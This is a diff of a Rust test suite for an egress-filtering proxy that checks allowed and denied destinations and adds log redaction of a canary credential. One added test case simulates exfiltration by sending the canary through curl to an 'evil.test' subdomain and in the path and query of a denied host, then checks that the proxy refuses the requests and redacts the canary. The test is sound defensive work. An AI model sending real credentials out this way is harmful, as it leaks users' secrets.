@@ -3,57 +3,23 @@
 
 use std::net::{IpAddr, SocketAddr};
 
-use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use toolgate_contract::egress::EgressRules;
+use toolgate_contract::redact::Redactor;
 use toolgate_egress::{Decision, Proxy, Resolver, Served};
 use toolgate_testkit::dns::DnsServer;
 
 /// The address the suite treats as the allowed "public" host (its CIDR is allowed).
 const ALLOWED: &str = "127.0.0.2";
+/// A credential of the call: never in a record, even when the tool puts it in a name or path.
+const CANARY: &str = "tgcanary7f3a9d";
+
 /// An address no rule allows.
 const INTERNAL: &str = "127.0.0.9";
 
-/// An HTTP server on `ip` answering `/hello` with a greeting and `/redirect?to=URL` with a 302.
 async fn upstream(ip: &str) -> SocketAddr {
-    let listener = tokio::net::TcpListener::bind((ip, 0)).await.expect("a loopback address");
-    let addr = listener.local_addr().expect("its address");
-    tokio::spawn(async move {
-        while let Ok((mut s, _)) = listener.accept().await {
-            tokio::spawn(async move {
-                let mut buf = vec![0u8; 8192];
-                let mut got = Vec::new();
-                while !got.windows(4).any(|w| w == b"\r\n\r\n") {
-                    let n = s.read(&mut buf).await.unwrap_or(0);
-                    if n == 0 {
-                        return;
-                    }
-                    got.extend_from_slice(&buf[..n]);
-                }
-                let text = String::from_utf8_lossy(&got).to_string();
-                let line = text.lines().next().unwrap_or_default().to_string();
-                let path = line.split(' ').nth(1).unwrap_or("/").to_string();
-                let reply = if let Some(to) = path.strip_prefix("/redirect?to=") {
-                    format!(
-                        "HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
-                    )
-                } else {
-                    let body = format!(
-                        "hello from upstream; request line {line}; connection header {}\n",
-                        text.lines()
-                            .find(|l| l.to_ascii_lowercase().starts_with("connection:"))
-                            .unwrap_or("none")
-                    );
-                    format!(
-                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
-                        body.len()
-                    )
-                };
-                let _ = s.write_all(reply.as_bytes()).await;
-                let _ = s.shutdown().await;
-            });
-        }
-    });
-    addr
+    toolgate_testkit::upstream::start(ip)
+        .await
+        .expect("an upstream on loopback")
 }
 
 fn ip(s: &str) -> IpAddr {
@@ -63,9 +29,14 @@ fn ip(s: &str) -> IpAddr {
 async fn proxy(domains: &[String], dns: &DnsServer) -> (Served, SocketAddr) {
     let rules = EgressRules::new(false, domains, &[format!("{ALLOWED}/32")], true).expect("rules");
     let resolver = Resolver::new(&[dns.addr()]).expect("a resolver");
-    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a port");
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
+        .await
+        .expect("a port");
     let addr = listener.local_addr().expect("its address");
-    (Proxy::new(rules, resolver).serve_tcp(listener), addr)
+    (
+        Proxy::new(rules, resolver, Redactor::new([CANARY])).serve_tcp(listener),
+        addr,
+    )
 }
 
 /// curl through the proxy: its exit code and what it printed (stdout and stderr).
@@ -196,6 +167,18 @@ async fn allowed_names_pass_and_every_other_destination_is_refused_and_recorded(
     assert_ne!(code, 0, "{out}");
     assert!(out.contains("403"), "{out}");
 
+    // A credential carried out in a name and in a path: refused, and recorded without it.
+    let (_, out) = curl(proxy, &[&format!("http://{CANARY}.evil.test/")]).await;
+    assert!(
+        out.contains("403") || out.contains("toolgate egress proxy"),
+        "{out}"
+    );
+    let (_, _) = curl(
+        proxy,
+        &[&format!("http://denied.test:{port}/{CANARY}?k={CANARY}")],
+    )
+    .await;
+
     let (records, dropped) = served.records();
     assert_eq!(dropped, 0);
     let kinds: Vec<(String, Decision, Option<String>)> = records
@@ -235,6 +218,11 @@ async fn allowed_names_pass_and_every_other_destination_is_refused_and_recorded(
         !json.contains("token=abc"),
         "a query never reaches a record: {json}"
     );
+    assert!(
+        !json.contains(CANARY),
+        "a credential never reaches a record: {json}"
+    );
+    assert!(json.contains("evil.test"), "{json}");
     // Names were resolved by the proxy, once per connection that passed the name check.
     assert_eq!(
         dns.asked().iter().filter(|n| *n == "rebind.test").count(),
